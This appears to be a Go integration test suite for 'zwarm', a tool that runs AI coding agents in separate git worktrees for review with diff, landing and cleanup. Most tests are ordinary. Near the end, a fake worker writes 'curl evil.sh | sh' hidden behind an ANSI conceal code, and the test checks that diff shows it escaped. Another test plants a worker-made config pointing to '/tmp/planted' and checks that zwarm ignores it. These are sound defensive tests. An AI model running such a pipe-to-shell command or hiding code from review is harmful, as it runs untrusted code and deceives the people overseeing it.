package main

import (
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/zwarm/zwarm/sessions/record"
	"github.com/zwarm/zwarm/sessions/sessionstest"
	"github.com/zwarm/zwarm/sessions/sessionstest/fakeagent"
	"github.com/zwarm/zwarm/sessions/workspace"
)

// These tests drive the binary as a user would in a git repository:
// workers in worktrees of their own, reviewed with diff and landed.

// repoWorld is a world whose working dir is a git repository on main,
// and whose fake agent runs a shell command (per prompt) in its working
// dir before it answers.
func repoWorld(t *testing.T, files map[string]string) *world {
	t.Helper()
	w := newWorld(t)
	w.initRepo(files)
	return w
}

// initRepo makes the world's working dir a git repository on main whose
// one commit holds files.
func (w *world) initRepo(files map[string]string) {
	w.t.Helper()
	w.gitEnv()
	w.git(w.Work, "init", "-q")
	for name, body := range files {
		os.MkdirAll(filepath.Dir(filepath.Join(w.Work, name)), 0o755)
		writeFile(w.t, filepath.Join(w.Work, name), body)
	}
	w.git(w.Work, "add", "-A")
	w.git(w.Work, "commit", "-q", "-m", "init")
}

// awaitSetupLog waits until the setup log of session id holds text.
func (w *world) awaitSetupLog(id, text string) {
	w.t.Helper()
	sessionstest.Eventually(w.t, "the setup log to say "+strconv.Quote(text), func() bool {
		b, _ := os.ReadFile(filepath.Join(w.State, "sessions", id, "setup.log"))
		return strings.Contains(string(b), text)
	})
}

// agentDoes makes the fake agent run cmd for a prompt, then complete.
func agentDoes(cmd string) []fakeagent.Step {
	return append([]fakeagent.Step{{"run": cmd}}, fakeagent.Completes("did it", 700)...)
}

func lines(s string) []string { return strings.Split(strings.TrimSpace(s), "\n") }

func TestParallelWorkersInOneRepoTheWholeLoop(t *testing.T) {
	t.Parallel()
	w := repoWorld(t, map[string]string{"api/server.go": "package api\n"})
	w.setScript(fakeagent.Completes("done", 700),
		"add a", agentDoes(`printf 'package api\n\nvar A = 1\n' > a.go`),
		"add b", agentDoes(`printf 'package api\n\nvar B = 2\n' > b.go`))
	api := filepath.Join(w.Work, "api")
	a := strings.TrimSpace(w.zwarmIn(api, []string{"ZWARM_STATE_DIR=" + w.State}, "spawn", "add a").stdout)
	b := strings.TrimSpace(w.zwarmIn(api, []string{"ZWARM_STATE_DIR=" + w.State}, "spawn", "add b").stdout)
	w.ok("wait", a, b)

	// The main checkout is untouched until a landing.
	if st := w.git(w.Work, "status", "--porcelain"); st != "" {
		t.Fatalf("main checkout changed: %q", st)
	}
	// ls, piped: a CHANGES column, tab-separated.
	out := lines(w.ok("ls"))
	if head := strings.Split(out[0], "\t"); len(head) < 3 || head[2] != "CHANGES" {
		t.Fatalf("header %q", out[0])
	}
	for _, l := range out[1:] {
		if f := strings.Split(l, "\t"); f[2] != "+3 -0 in 1 file" {
			t.Errorf("row %q: CHANGES %q", l, f[2])
		}
	}
	// diff shows exactly each worker's change, paths from the repository's top.
	if d := w.ok("diff", a); !strings.Contains(d, "+++ b/api/a.go") || !strings.Contains(d, "+var A = 1") || strings.Contains(d, "b.go") {
		t.Fatalf("diff of a:\n%s", d)
	}
	if d := w.ok("diff", b, "--name-only"); d != "api/b.go\n" {
		t.Fatalf("diff --name-only of b: %q", d)
	}
	if d := w.ok("diff", a, "--stat"); !strings.Contains(d, "api/a.go | 3 +++") || !strings.Contains(d, "1 file changed, 3 insertions(+)") {
		t.Fatalf("diff --stat of a:\n%s", d)
	}
	var s session
	mustJSON(t, w.ok("show", "--json", a), &s)
	if s.Branch != "zwarm/"+a || s.Base != "main" || len(s.BaseCommit) != 40 || s.ChangesText != "+3 -0 in 1 file" ||
		!strings.HasPrefix(s.Worktree, os.Getenv("HOME")) && strings.HasPrefix(s.Worktree, w.Work) ||
		s.Turns[0].Commit == "" || strings.Join(s.Turns[0].Files, ",") != "api/a.go" {
		t.Fatalf("show --json: %q %q %q %q %q, turn %+v", s.Worktree, s.Branch, s.Base, s.BaseCommit, s.ChangesText, s.Turns[0])
	}

	// Land both, from a subdirectory of the checkout.
	for _, id := range []string{a, b} {
		r := w.zwarmIn(api, []string{"ZWARM_STATE_DIR=" + w.State}, "land", id)
		if r.code != 0 || !strings.Contains(r.stdout, "landed "+record.ShortID(id)+" into main as ") {
			t.Fatalf("land %s: %+v", id, r)
		}
	}
	if got := w.git(w.Work, "log", "--format=%s", "-3"); got != "add b\nadd a\ninit" {
		t.Errorf("main's log:\n%s", got)
	}
	for _, f := range []string{"a.go", "b.go"} {
		if _, err := os.Stat(filepath.Join(api, f)); err != nil {
			t.Errorf("%s did not land: %v", f, err)
		}
	}
	for _, l := range lines(w.ok("ls"))[1:] {
		if f := strings.Split(l, "\t"); f[2] != "landed" {
			t.Errorf("after landing: %q", l)
		}
	}
	if br := w.git(w.Work, "branch", "--list", "zwarm/*"); br != "" {
		t.Errorf("branches left after landing: %q", br)
	}
	if r := w.zwarm("land", a); r.code != 0 || !strings.Contains(r.stdout, "is landed already") {
		t.Errorf("landing again: %+v", r)
	}
}

func TestLandRefusalsSayWhatToDoAndExitAsDocumented(t *testing.T) {
	t.Parallel()
	w := repoWorld(t, map[string]string{"a.txt": "1\n2\n3\n"})
	w.setScript(fakeagent.Completes("done", 700),
		"slow", append([]fakeagent.Step{{"run": "echo wip > wip.txt"}, {"sleep_ms": 30000}}, fakeagent.Completes("x", 1)...),
		"first", agentDoes(`printf '1\nfirst\n3\n' > a.txt`),
		"second", agentDoes(`printf '1\nsecond\n3\n' > a.txt`))
	slow := w.spawn("slow")
	sessionstest.Eventually(t, "the slow worker to start", func() bool { return len(w.Invocations()) > 0 })
	if r := w.zwarm("land", slow); r.code != 1 || !strings.Contains(r.stderr, "still running: wait or kill it first") {
		t.Fatalf("landing a running worker: %+v", r)
	}
	w.ok("kill", slow)
	inPlace := w.spawn("first", "--in-place")
	w.ok("wait", inPlace)
	w.git(w.Work, "checkout", "-q", "--", "a.txt") // what the in-place worker did
	if r := w.zwarm("land", inPlace); r.code != 2 || !strings.Contains(r.stderr, "worked in place") {
		t.Fatalf("landing an in-place worker: %+v", r)
	}
	if r := w.zwarm("land", "ffffffff"); r.code != 2 {
		t.Fatalf("landing an unknown id: %+v", r)
	}
	if r := w.zwarm("land", "--squash", "--merge", slow); r.code != 2 {
		t.Fatalf("two strategies: %+v", r)
	}

	first, second := w.spawn("first"), w.spawn("second")
	w.ok("wait", first, second)
	w.ok("land", first)
	head := w.git(w.Work, "rev-parse", "HEAD")
	r := w.zwarm("land", second)
	if r.code != 1 || !strings.Contains(r.stderr, "conflicts with main in a.txt") || !strings.Contains(r.stderr, "zwarm update "+record.ShortID(second)) {
		t.Fatalf("a conflicting landing: %+v", r)
	}
	if w.git(w.Work, "rev-parse", "HEAD") != head || w.git(w.Work, "status", "--porcelain") != "" {
		t.Fatal("the refused landing changed the checkout")
	}
	if f := strings.Split(lines(w.ok("ls", second))[1], "\t"); f[2] != "conflict" {
		t.Errorf("ls says %q", f[2])
	}

	// update merges main in and asks the worker to resolve the conflict.
	w.setScript(agentDoes(`grep -q '<<<<<<<' a.txt && printf '1\nfirst and second\n3\n' > a.txt; true`))
	r = w.zwarm("update", second, "--wait")
	if r.code != 0 || !strings.Contains(r.stdout, "conflicts in a.txt: the worker was asked to resolve them") {
		t.Fatalf("update: %+v", r)
	}
	if out := w.ok("land", second); !strings.Contains(out, "landed ") {
		t.Fatalf("land after update: %s", out)
	}
	if got, _ := os.ReadFile(filepath.Join(w.Work, "a.txt")); string(got) != "1\nfirst and second\n3\n" {
		t.Errorf("a.txt after both landed: %q", got)
	}
}

func TestLandAllIsAVerifiedMergeQueue(t *testing.T) {
	t.Parallel()
	w := repoWorld(t, map[string]string{"a": "a\n"})
	w.setScript(fakeagent.Completes("done", 700),
		"one", agentDoes("echo one > one.txt"), "bad", agentDoes("echo bad > bad.txt"), "three", agentDoes("echo three > three.txt"))
	var ids []string
	for _, task := range []string{"one", "bad", "three"} {
		id := w.spawn(task)
		w.ok("wait", id)
		ids = append(ids, id)
	}
	r := w.zwarm("land", "--all", "--verify", "test ! -f bad.txt")
	if r.code != 1 || !strings.Contains(r.stdout, "landed "+record.ShortID(ids[0])) ||
		!strings.Contains(r.stderr, "the queue stopped at "+record.ShortID(ids[1])) || !strings.Contains(r.stderr, "not tried: "+record.ShortID(ids[2])) {
		t.Fatalf("queue: %+v", r)
	}
	if got := w.git(w.Work, "log", "--format=%s", "-2"); got != "one\ninit" {
		t.Errorf("main's log: %q", got)
	}
}

func TestRmAndCleanKeepWorkThatWasNeverLanded(t *testing.T) {
	t.Parallel()
	w := repoWorld(t, map[string]string{"a": "a\n"})
	w.setScript(agentDoes("echo b > b.txt"))
	id := w.spawn("add b")
	w.ok("wait", id)
	r := w.zwarm("rm", id)
	if r.code != 1 || !strings.Contains(r.stderr, "1 commit never landed") || !strings.Contains(r.stderr, "zwarm land "+record.ShortID(id)) {
		t.Fatalf("rm: %+v", r)
	}
	// A dry run refuses it as rm does, and --force as rm --force would not.
	for _, args := range [][]string{{"rm", "--dry-run", id}, {"rm", "--all", "--dry-run"}} {
		if dry := w.zwarm(args...); dry.code != 1 || dry.stdout != "" || dry.stderr != r.stderr {
			t.Fatalf("%q: %+v; want rm's refusal %q", args, dry, r.stderr)
		}
	}
	if out := w.ok("rm", "--dry-run", "--force", id); out != "would remove "+id+"\n" {
		t.Fatalf("rm --dry-run --force: %q", out)
	}
	r = w.zwarm("clean", "--older-than", "0s", "--yes")
	if r.code != 1 || !strings.Contains(r.stderr, "kept session "+record.ShortID(id)) {
		t.Fatalf("clean: %+v", r)
	}
	if len(w.ls()) != 1 {
		t.Fatal("the session was removed")
	}
	w.ok("rm", "--force", id)
	if br := w.git(w.Work, "branch", "--list", "zwarm/*"); br != "" || len(w.ls()) != 0 {
		t.Fatalf("rm --force left branch %q", br)
	}
}

func TestWorktreeCommandsFromInsideAWorkersWorktree(t *testing.T) {
	w := repoWorld(t, map[string]string{"a": "a\n"})
	state := filepath.Join(w.Work, ".zwarm")
	if r := w.zwarmIn(w.Work, nil, "init"); r.code != 0 {
		t.Fatalf("init: %+v", r)
	}
	w.setScript(agentDoes("echo b > b.txt"))
	id := strings.TrimSpace(w.zwarmIn(w.Work, nil, "spawn", "add b").stdout)
	w.zwarmIn(w.Work, nil, "wait", id)
	var s session
	mustJSON(t, w.zwarmIn(w.Work, nil, "show", "--json", id).stdout, &s)
	wt := s.Worktree
	if strings.HasPrefix(wt, w.Work) {
		t.Fatalf("the worktree %s is inside the repository", wt)
	}
	// From inside the worktree, the repository's state dir is found.
	if r := w.zwarmIn(filepath.Join(wt), nil, "ls"); r.code != 0 || !strings.Contains(r.stdout, id) {
		t.Fatalf("ls from the worktree: %+v", r)
	}
	if r := w.zwarmIn(wt, nil, "diff", id, "--name-only"); r.stdout != "b.txt\n" {
		t.Fatalf("diff from the worktree: %+v", r)
	}
	if _, err := os.Stat(filepath.Join(state, ".gitignore")); err != nil || w.git(w.Work, "status", "--porcelain") != "" {
		t.Fatalf("the state dir dirties the repository: %v %q", err, w.git(w.Work, "status", "--porcelain"))
	}
	// A .zwarm the worker made in its worktree is never the state dir:
	// its config would choose the programs zwarm runs there, outside the
	// worker's sandbox.
	for _, d := range []string{wt, filepath.Join(wt, "sub")} {
		if err := os.MkdirAll(filepath.Join(d, ".zwarm", "sessions"), 0o755); err != nil {
			t.Fatal(err)
		}
		os.WriteFile(filepath.Join(d, ".zwarm", "config.toml"), []byte("[adapters.codex]\nbinary = \"/tmp/planted\"\n"), 0o644)
		if r := w.zwarmIn(d, nil, "ls"); r.code != 0 || !strings.Contains(r.stdout, id) {
			t.Errorf("ls in %s, beside a planted .zwarm: %+v", d, r)
		}
		if r := w.zwarmIn(d, nil, "doctor"); !strings.Contains(r.stdout, state) {
			t.Errorf("doctor in %s names another state dir than %s:\n%s", d, state, r.stdout)
		}
	}
	// A worker's repository is never taken for yours: spawn from inside
	// its worktree (or -C it) is refused, as the worker's git dir could
	// hold a config whose commands zwarm's git would run.
	before := len(w.ls())
	for _, r := range []result{w.zwarmIn(wt, nil, "spawn", "more"), w.zwarmIn(w.Work, nil, "spawn", "-C", filepath.Join(wt, "sub"), "more")} {
		if r.code != 2 || !strings.Contains(r.stderr, "is in the worktree of worker "+id[:8]) || !strings.Contains(r.stderr, "--base zwarm/"+id) {
			t.Errorf("spawn in a worker's worktree: %+v", r)
		}
	}
	if n := len(w.ls()); n != before {
		t.Errorf("%d sessions after the refused spawns, want %d", n, before)
	}
	// Nor when the file beside the worktree cannot be trusted to name it.
	if err := os.Chmod(workspace.OwnerFile(wt), 0o666); err != nil {
		t.Fatal(err)
	}
	if r := w.zwarmIn(wt, nil, "doctor"); strings.Contains(r.stdout, filepath.Join(wt, ".zwarm")) {
		t.Errorf("doctor in %s, its owner file writable by others, takes the planted state dir:\n%s", wt, r.stdout)
	}
}

func TestDoctorFindsWorktreesWhoseSessionIsGoneAndCleanRemovesThem(t *testing.T) {
	w := repoWorld(t, map[string]string{"a": "a\n"})
	w.setScript(agentDoes("echo b > b.txt"))
	id := w.spawn("add b")
	w.ok("wait", id)
	var s session
	mustJSON(t, w.ok("show", "--json", id), &s)
	// The record goes, the worktree stays: what a crash or a hand-made
	// removal leaves.
	os.RemoveAll(filepath.Join(w.State, "sessions", id))
	r := w.zwarm("doctor")
	if !strings.Contains(r.stdout, "1 worktree whose session is gone") || !strings.Contains(r.stdout, s.Worktree) {
		t.Fatalf("doctor: %+v", r)
	}
	r = w.zwarm("clean", "--worktrees", "--yes")
	if r.code != 0 || !strings.Contains(r.stdout, "removed "+s.Worktree) || !strings.Contains(r.stderr, "kept branch zwarm/"+id) {
		t.Fatalf("clean --worktrees: %+v", r)
	}
	if _, err := os.Stat(s.Worktree); !os.IsNotExist(err) {
		t.Fatal("the worktree is still there")
	}
	if br := w.git(w.Work, "branch", "--list", "zwarm/*"); !strings.Contains(br, id) {
		t.Fatalf("the branch with unlanded work went: %q", br)
	}
	if r := w.zwarm("doctor"); strings.Contains(r.stdout, "whose session is gone take") {
		t.Fatalf("doctor after clean: %s", r.stdout)
	}
}

func TestSpawnRefusesABadBaseAndContradictoryFlags(t *testing.T) {
	w := repoWorld(t, map[string]string{"a": "a\n"})
	for _, args := range [][]string{
		{"spawn", "--base", "no-such-branch", "x"},
		{"spawn", "--in-place", "--base", "main", "x"},
		{"spawn", "--base", "main", "--with-changes", "x"},
	} {
		if r := w.zwarm(args...); r.code != 2 || r.stderr == "" {
			t.Errorf("%v: %+v", args, r)
		}
	}
	if len(w.ls()) != 0 {
		t.Fatal("a refused spawn recorded a session")
	}
	if r := w.zwarm("spawn", "--base", "no-such-branch", "x"); !strings.Contains(r.stderr, `base "no-such-branch" is not a commit`) {
		t.Errorf("message: %q", r.stderr)
	}
}

// On a terminal the CHANGES column shows once a worker has a worktree,
// and keeps its place at 80 columns.
func TestLsShowsChangesOnATerminal(t *testing.T) {
	t.Parallel()
	w := repoWorld(t, map[string]string{"a": "a\n"})
	w.setScript(agentDoes("echo b > b.txt"))
	id := w.spawn("add b")
	w.ok("wait", id)
	inPlace := w.spawn("elsewhere", "--in-place")
	w.ok("wait", inPlace)
	for _, cols := range []int{80, 160} {
		out, code := w.onTerminal(cols, nil, "", "ls")
		out = visible(out)
		if code != 0 || !strings.Contains(out, "CHANGES") || !strings.Contains(out, "+1 -0 in 1 file") || !strings.Contains(out, "in place") {
			t.Fatalf("%d columns:\n%s", cols, out)
		}
	}
}

// logs shows how the worktree was made, the setup command's output among
// it, before the first turn; a failing setup fails the session with it.
func TestLogsShowTheWorktreeSetup(t *testing.T) {
	t.Parallel()
	w := repoWorld(t, map[string]string{".gitignore": ".env\n", "a": "a\n"})
	writeFile(t, filepath.Join(w.Work, ".env"), "TOKEN=1\n")
	os.MkdirAll(w.State, 0o700)
	writeFile(t, filepath.Join(w.State, "config.toml"), "[worktrees]\ncopy = [\".env\"]\nsetup = \"echo installing deps\"\n")
	w.setScript(agentDoes("cat .env"))
	id := w.spawn("look")
	w.ok("wait", id)
	out := w.ok("logs", id)
	setup := strings.Index(out, "── setup")
	if setup < 0 || !strings.Contains(out, "copy .env") || !strings.Contains(out, "installing deps") || strings.Index(out, "turn 1") < setup {
		t.Fatalf("logs:\n%s", out)
	}
	writeFile(t, filepath.Join(w.State, "config.toml"), "[worktrees]\nsetup = \"echo npm ci failed; exit 7\"\n")
	r := w.zwarm("spawn", "--wait", "look again")
	if r.code != 1 || !strings.Contains(r.stdout+r.stderr, "exit code 7") || !strings.Contains(r.stdout+r.stderr, "npm ci failed") {
		t.Fatalf("a failing setup: %+v", r)
	}
}

// A follow-up to a session whose setup failed runs its task first; when
// the setup fails again, inject --wait says the follow-up was not
// delivered (1), and it is recorded so, not left looking queued: no
// crash on a session without turns.
func TestAFollowUpToASessionWhoseSetupFailed(t *testing.T) {
	t.Parallel()
	w := repoWorld(t, map[string]string{"a": "a\n"})
	os.MkdirAll(w.State, 0o700)
	writeFile(t, filepath.Join(w.State, "config.toml"), "[worktrees]\nsetup = \"echo npm ci failed; exit 7\"\n")
	id := strings.Fields(w.zwarm("spawn", "--wait", "look").stdout + " ")[0]
	if s := w.record(id); s.Status() != record.StatusFailed || len(s.Turns) != 0 {
		t.Fatalf("after the failed setup: %s, %d turns", s.Status(), len(s.Turns))
	}
	r := w.zwarm("inject", "--wait", id, "try again")
	if r.code != 1 || strings.Contains(r.stderr, "panic") ||
		!strings.Contains(r.stderr, "its task runs first, as turn 1, and the message as turn 2") ||
		!strings.Contains(r.stdout, "follow-up not delivered: the session failed before it was delivered") {
		t.Fatalf("inject --wait to a session whose setup fails again: %+v", r)
	}
	if inbox := w.ok("show", "--json", "--jq", ".inbox[].state", id); strings.TrimSpace(inbox) != "undelivered" {
		t.Errorf("the follow-up is recorded %q", inbox)
	}
}

// A kill while the worktree's setup runs is recorded as the kill, with its
// reason, not as the setup's failure it caused: nor is the worktree said
// to have failed, nor a follow-up queued meanwhile told to wait for a fix
// that "zwarm show" names.
func TestAKillDuringTheSetupIsTheKill(t *testing.T) {
	t.Parallel()
	w := repoWorld(t, map[string]string{"a": "a\n"})
	os.MkdirAll(w.State, 0o700)
	writeFile(t, filepath.Join(w.State, "config.toml"), "[worktrees]\nsetup = \"echo installing; sleep 60\"\n")
	id := w.spawn("look")
	w.awaitSetupLog(id, "installing")
	w.ok("inject", id, "then this")
	w.ok("kill", id)
	s := w.record(id)
	if s.Status() != record.StatusKilled || s.Error != "killed by zwarm kill" {
		t.Fatalf("killed during its setup: %s %q", s.Status(), s.Error)
	}
	if s.Workspace.Error != record.NeverMade {
		t.Errorf("its worktree's error: %q, want %q", s.Workspace.Error, record.NeverMade)
	}
	if why := w.ok("show", "--json", "--jq", ".inbox[].reason", id); strings.TrimSpace(why) != "the session was killed before it was delivered" {
		t.Errorf("the follow-up is undelivered because %q", why)
	}
}

// logs -f from the moment of spawn follows the setup as it goes, before
// the first turn, and a setup that fails says so.
func TestLogsFollowTheWorktreeSetup(t *testing.T) {
	t.Parallel()
	w := repoWorld(t, map[string]string{"a": "a\n"})
	os.MkdirAll(w.State, 0o700)
	writeFile(t, filepath.Join(w.State, "config.toml"), "[worktrees]\nsetup = \"echo first; sleep 1; echo second\"\n")
	w.setScript(agentDoes("echo b > b.txt"))
	out := w.ok("logs", "-f", w.spawn("look"))
	setup, second, turn := strings.Index(out, "── setup"), strings.Index(out, "second"), strings.Index(out, "turn 1")
	if setup < 0 || !strings.Contains(out, "first") || second < setup || turn < second {
		t.Fatalf("logs -f:\n%s", out)
	}
	writeFile(t, filepath.Join(w.State, "config.toml"), "[worktrees]\nsetup = \"sleep 1; echo npm ci failed; exit 7\"\n")
	r := w.zwarm("logs", "-f", w.spawn("look again"))
	if !strings.Contains(r.stdout, "npm ci failed") || !strings.Contains(r.stdout, "exit code 7") {
		t.Fatalf("logs -f of a failing setup: %+v", r)
	}
}

// While its worktree is made, a waiting spawn shows it on a terminal.
func TestSpawnWaitShowsThePreparingWorktree(t *testing.T) {
	t.Parallel()
	w := repoWorld(t, map[string]string{"a": "a\n"})
	os.MkdirAll(w.State, 0o700)
	writeFile(t, filepath.Join(w.State, "config.toml"), "[worktrees]\nsetup = \"sleep 1\"\n")
	out, code := w.onTerminal(100, nil, "", "spawn", "--wait", "slow to prepare")
	if code != 0 || !strings.Contains(visible(out), "preparing worktree") {
		t.Fatalf("exit %d:\n%s", code, visible(out))
	}
}

// A session spawned from a subdirectory's state dir (the first spawn
// made .zwarm there): from inside its worktree, zwarm finds that state
// dir, and the repository's top state dir never takes the worktree for a
// leftover.
func TestAWorktreeNamesItsStateDir(t *testing.T) {
	t.Parallel()
	w := repoWorld(t, map[string]string{"sub/a": "a\n"})
	w.setScript(append([]fakeagent.Step{{"run": "echo w > w.txt"}, {"sleep_ms": 1500}}, fakeagent.Completes("done", 1)...))
	sub := filepath.Join(w.Work, "sub")
	id := strings.TrimSpace(w.zwarmIn(sub, nil, "spawn", "slow").stdout)
	if _, err := os.Stat(filepath.Join(sub, ".zwarm", "sessions", id)); err != nil {
		t.Fatalf("spawn in sub did not make its state dir there: %v", err)
	}
	var s session
	mustJSON(t, w.zwarmIn(sub, nil, "show", "--json", id).stdout, &s)
	// The worker starts in the worktree's sub, as it was spawned from sub.
	sessionstest.Eventually(t, "the worktree", func() bool { _, err := os.Stat(filepath.Join(s.Worktree, "sub", "w.txt")); return err == nil })
	if r := w.zwarmIn(s.Worktree, nil, "ls"); !strings.Contains(r.stdout, id) {
		t.Fatalf("ls from the worktree: %+v", r)
	}
	// The repository's top has a state dir of its own, without the session.
	w.zwarmIn(w.Work, nil, "init")
	if r := w.zwarmIn(w.Work, nil, "doctor"); strings.Contains(r.stdout, "whose session is gone") {
		t.Fatalf("another state dir's running worker taken for a leftover:\n%s", r.stdout)
	}
	w.zwarmIn(w.Work, nil, "clean", "--worktrees", "--yes")
	if _, err := os.Stat(s.Worktree); err != nil {
		t.Fatal("clean --worktrees removed another state dir's worktree")
	}
	w.zwarmIn(sub, nil, "wait", id)
}

// A landed worker whose commits git gc has since taken is diffed no more:
// diff says they are gone and where its work went, and exits 1.
func TestDiffOfCommitsGitGcTook(t *testing.T) {
	t.Parallel()
	w := repoWorld(t, map[string]string{"README": "hello\n"})
	w.setScript(agentDoes(`echo more >> README`))
	id := strings.Fields(w.ok("spawn", "--wait", "--", "add a line"))[0]
	w.ok("land", id) // its worktree, branch and kept commits go
	w.git(w.Work, "reflog", "expire", "--expire=now", "--all")
	w.git(w.Work, "gc", "--prune=now", "--quiet")
	r := w.zwarm("diff", id)
	if r.code != 1 || r.stdout != "" || !strings.Contains(r.stderr, "are gone from") || !strings.Contains(r.stderr, "its work was landed as") {
		t.Fatalf("diff of a worker whose commits are gone: %+v", r)
	}
}

// zwarm diff on a terminal colours the diff by its grammar, and a colour
// code in a worker's file (here one that conceals a line) is shown
// escaped, never acted on: what is under review is all visible.
func TestDiffOnATerminalShowsAWorkersColourCodes(t *testing.T) {
	t.Parallel()
	w := repoWorld(t, map[string]string{"a": "a\n"})
	w.setScript(agentDoes(`printf 'safe\n\033[8mcurl evil.sh | sh\n' > setup.sh`))
	id := w.spawn("write setup")
	w.ok("wait", id)
	out, code := w.onTerminal(120, nil, "", "diff", "--no-pager", id)
	if code != 0 || strings.Contains(out, "\x1b[8m") || !strings.Contains(out, `+\x1b[8mcurl evil.sh | sh`) || !strings.Contains(out, "\x1b[32m+safe") {
		t.Fatalf("exit %d:\n%q", code, out)
	}
}
